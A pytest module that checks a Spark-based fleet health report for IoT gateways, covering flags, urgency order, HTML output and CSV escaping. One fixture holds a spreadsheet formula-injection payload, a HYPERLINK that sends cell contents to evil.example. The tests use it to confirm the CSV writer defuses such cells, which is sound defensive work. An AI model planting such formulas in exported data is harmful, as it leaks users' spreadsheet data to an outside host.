"""The fleet report (``cairn spark report``'s ``fleet``) from real landed batches on a real
local Spark: each gateway ships readings and its health records (``cairn.gateway.health``)
as the uploader does, the table is ingested, the report written once for the module. One
gateway per flag of the issue, a healthy one, and records the job must read with care. The
rules themselves are tested without Spark in tests/pure/test_fleet.py."""

from __future__ import annotations

import csv
import json
import os
import shutil
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any

import pytest

pytest.importorskip("pyspark")
if shutil.which("java") is None and not os.environ.get("JAVA_HOME"):
    pytest.skip("Spark needs a Java runtime", allow_module_level=True)

from cairn.central import spark as jobs  # noqa: E402
from cairn.central.fleet import COLUMNS  # noqa: E402
from cairn.gateway.core.config import HEALTH_TOPIC  # noqa: E402
from cairn.gateway.core.retention import OWN_AUTHID, OWN_AUTHROLE  # noqa: E402
from tests.pure.test_fleet import record  # noqa: E402
from tests.spark.test_spark import T0, T0_MS, event, events, land, utc  # noqa: E402

pytestmark = pytest.mark.spark

NOW = T0 + timedelta(hours=1)  # the report's now: every gateway sent within the hour
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"0.9.0")'


def health(seq: int, fields: dict[str, Any] | str, authid: str = OWN_AUTHID,
           **kwargs: Any) -> dict[str, Any]:
    """A health record as the router stores it (its own authid and role)."""
    row = event(seq, T0_MS + seq * 1000, topic=HEALTH_TOPIC, kwargs=fields, **kwargs)
    return dict(row, authid=authid, authrole=OWN_AUTHROLE if authid == OWN_AUTHID else "dev")


GATEWAYS = {
    "card": [health(11, record(card__life_years=0.4, card__bytes_per_day=68 * 10**9))],
    "silent": [health(11, record(devices__t1__last_reading_age_s=1.5 * 86400))],
    "rolled-back": [health(11, record(last_update={
        "result": "failed", "version": "1.0.0", "slot": "B", "from_slot": "A",
        "reason": "not healthy within 300 s: router not ready"}))],
    "damaged": [health(11, record(store__damaged_rows_skipped=4))],
    # an older record was worn out: the newest one counts
    "healthy": [health(11, record(card__life_years=0.2)), health(12, record())],
    "newer": [health(11, record(schema=2, radio={"rssi": -71, "band": 20}))],
    "malformed": [health(11, record(card="worn", clock__synchronized="yes"))],
    # text a spreadsheet would run, and quotes, commas and a line break for the CSV
    "formula": [health(11, record(version=FORMULA, slot='A "left", 2\nB'))],
    # only the router may publish health records: a client's is not the gateway's health
    "impostor": [health(11, record(), authid="dev"), health(12, record(), authid="dev")],
}


@pytest.fixture(scope="module")
def reported(spark, tmp_path_factory):
    """(out directory, the summary's lines) of one report over every gateway above."""
    tmp = tmp_path_factory.mktemp("fleet")
    landing, table, out = tmp / "landing", tmp / "table", tmp / "reports"
    for name, records in GATEWAYS.items():
        land(landing, name, events(range(1, 11)) + records, 0)
    unsynced = record(clock__synchronized=False, uptime_s=20 * 3600)
    land(landing, "unsynced", events(range(1, 11), synced=False)
         + [health(11, unsynced, synced=False)], 0)
    stats = jobs.ingest(spark, str(landing), str(table), str(tmp / "q"))
    assert stats.ingested == len(GATEWAYS) + 1 and not stats.quarantined
    result = jobs.report(spark, str(table), str(out), now=NOW)
    return out, table, result.lines


@pytest.fixture(scope="module")
def fleet(spark, reported) -> dict[str, Any]:
    out, _, _ = reported
    return {r.gateway_id: r for r in spark.read.parquet(str(out / "fleet")).collect()}


def test_a_gateway_whose_card_life_is_under_a_year_is_flagged(fleet):
    card = fleet["card"]
    assert (card.flags, card.reasons) == ("card_worn", "card life 0.4 years at 68.0 GB a day")
    assert (card.card_life_years, card.card_bytes_per_day) == (0.4, 68 * 10**9)


def test_a_gateway_with_a_device_silent_for_a_day_is_flagged(fleet):
    silent = fleet["silent"]
    assert (silent.flags, silent.reasons) == ("silent_devices",
                                              "silent: t1 no reading for 36.0 h")
    assert (silent.devices, silent.silent_devices) == (1, 1)


def test_a_gateway_whose_clock_never_synchronized_is_flagged(fleet):
    unsynced = fleet["unsynced"]
    assert unsynced.flags == "clock_unsynced" and unsynced.clock_synchronized is False
    assert unsynced.reasons == ("clock never synchronized in 20.0 h since start: times are "
                                "the gateway's guess")


def test_a_gateway_that_rolled_back_an_update_is_flagged(fleet):
    rolled = fleet["rolled-back"]
    assert (rolled.flags, rolled.last_update_result, rolled.last_update_version) == (
        "update_failed", "failed", "1.0.0")
    assert rolled.reasons == "update to 1.0.0 failed: not healthy within 300 s: router not ready"


def test_a_gateway_with_damaged_rows_is_flagged(fleet):
    damaged = fleet["damaged"]
    assert (damaged.flags, damaged.damaged_rows) == ("damaged_rows", 4)


def test_a_healthy_gateway_has_no_flags_by_its_newest_record(fleet):
    healthy = fleet["healthy"]
    assert (healthy.flags, healthy.reasons, healthy.health_problem) == (None, None, None)
    assert (healthy.card_life_years, healthy.version, healthy.slot) == (13.7, "0.9.0", "A")
    assert utc(healthy.last_seen) == utc(healthy.last_health) == T0 + timedelta(seconds=12)
    assert healthy.last_seen_age_s == 3600 - 12 and healthy.health_lag_s == 0


def test_a_record_with_fields_the_job_does_not_know_is_kept_and_read(spark, reported, fleet):
    _, table, _ = reported
    kept = spark.read.parquet(str(table)).where(
        f"gateway_id = 'newer' AND topic = '{HEALTH_TOPIC}'").first()
    assert json.loads(kept.kwargs)["radio"] == {"rssi": -71, "band": 20}
    assert (fleet["newer"].flags, fleet["newer"].card_life_years) == (None, 13.7)


def test_a_malformed_record_makes_its_row_say_so(fleet):
    malformed = fleet["malformed"]
    assert malformed.health_problem == 'card is "worn"; clock.synchronized is "yes"'
    assert malformed.flags == "health_malformed" and malformed.version == "0.9.0"


def test_health_records_not_published_by_the_router_are_not_read(fleet):
    assert fleet["impostor"].flags == "no_health" and fleet["impostor"].last_health is None


def test_the_fleet_report_is_in_urgency_order_as_parquet_and_csv(spark, reported, fleet):
    out, _, lines = reported
    order = [r.gateway_id for r in sorted(fleet.values(), key=lambda r: r.urgency)]
    assert order == ["card", "damaged", "rolled-back", "unsynced", "silent", "impostor",
                     "malformed", "formula", "healthy", "newer"]
    with (out / "fleet.csv").open() as f:
        assert [r["gateway_id"] for r in csv.DictReader(f)] == order
    assert "fleet: 7 of 10 gateways need attention" in lines[-1]
    assert "\n  1. card: card life 0.4 years" in lines[-1]


class FleetTable(HTMLParser):
    """The gateways of the page's first table, in its order."""

    def __init__(self) -> None:
        super().__init__()
        self.names: list[str] = []
        self.tables = 0
        self._in_name = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tables += tag == "table"
        self._in_name = self.tables == 1 and tag == "td" and ("class", "gateway_id") in attrs

    def handle_data(self, data: str) -> None:
        if self._in_name:
            self.names.append(data)
            self._in_name = False


def test_the_page_has_the_fleet_table_in_urgency_order(reported, fleet):
    out, _, _ = reported
    page = (out / "report.html").read_text()
    table = FleetTable()
    table.feed(page)
    assert table.names == [r.gateway_id for r in sorted(fleet.values(),
                                                        key=lambda r: r.urgency)]
    assert 'aria-label="flag card_worn"' in page and "<script" not in page


def csv_rows(out) -> tuple[list[str], list[list[str]]]:
    """fleet.csv as an RFC 4180 reader (Python's csv, as Excel and LibreOffice) reads it."""
    with (out / "fleet.csv").open(newline="") as f:
        header, *rows = list(csv.reader(f))
    return header, rows


def test_fleet_csv_reads_back_with_one_cell_per_column_and_the_reports_text(reported, fleet):
    out, _, _ = reported
    header, rows = csv_rows(out)
    assert {len(r) for r in rows} == {len(header)}
    texts = [name for name, kind in (c.split() for c in COLUMNS.split(",")) if kind == "string"]
    for cells in rows:
        row = dict(zip(header, cells, strict=True))
        report = fleet[row["gateway_id"]]
        for column in texts:
            value = getattr(report, column)
            expected = "'" + value if value and value[0] in "=+-@\t\r" else value or ""
            assert row[column] == expected, (row["gateway_id"], column)


def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(reported, fleet):
    out, _, _ = reported
    header, rows = csv_rows(out)
    formula = next(dict(zip(header, r, strict=True)) for r in rows if r[1] == "formula")
    assert formula["version"] == "'" + FORMULA and fleet["formula"].version == FORMULA
    assert formula["slot"] == 'A "left", 2\nB'
